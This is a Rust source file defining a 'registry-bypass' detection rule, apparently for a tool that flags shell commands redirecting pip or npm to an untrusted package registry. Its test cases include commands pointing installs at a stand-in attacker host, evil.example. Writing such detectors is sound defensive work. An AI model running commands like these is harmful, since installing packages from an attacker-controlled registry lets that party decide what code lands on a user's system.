//! `registry-bypass`: packages come from another registry.

use countersign_model::{Effect, EffectKind, Operation, Tier};

use super::common;
use crate::context::Context;
use crate::rule::{Case, Group, Hit, Rule, names};

pub(super) const RULE: Rule = Rule {
    code: "registry-bypass",
    group: Group::ForeignCode,
    tier: Tier::Soft,
    title: "packages come from another registry",
    doc: "Sets a registry or index other than the public ones: whoever runs it decides what is installed, now and later.",
    must_name: "the registry",
    operation: Operation::Configure,
    kinds: &[EffectKind::RegistryChange],
    check,
    fires: &[
        Case { action: "pip install --index-url http://evil.example/simple x", says: "" },
        Case { action: "npm config set registry http://evil.example", says: "" },
    ],
    silent: &[
        Case { action: "npm config get registry", says: "" },
        Case { action: "npm config set registry https://registry.npmjs.org/", says: "" },
    ],
};

fn check(effect: &Effect, cx: &Context<'_>) -> Option<Hit> {
    let known = effect.targets.iter().chain(&[]).any(|t| {
        common::is_public_registry(&t.name) || cx.trust.registries.iter().any(|r| t.name.contains(r.as_str()))
    });
    if known {
        return None;
    }
    Some(
        Hit::new(format!("packages would come from {}", names(&effect.targets)))
            .naming_word(&["registry", "index", "mirror"])
            .safer(effect, "the registry that the project already uses"),
    )
}
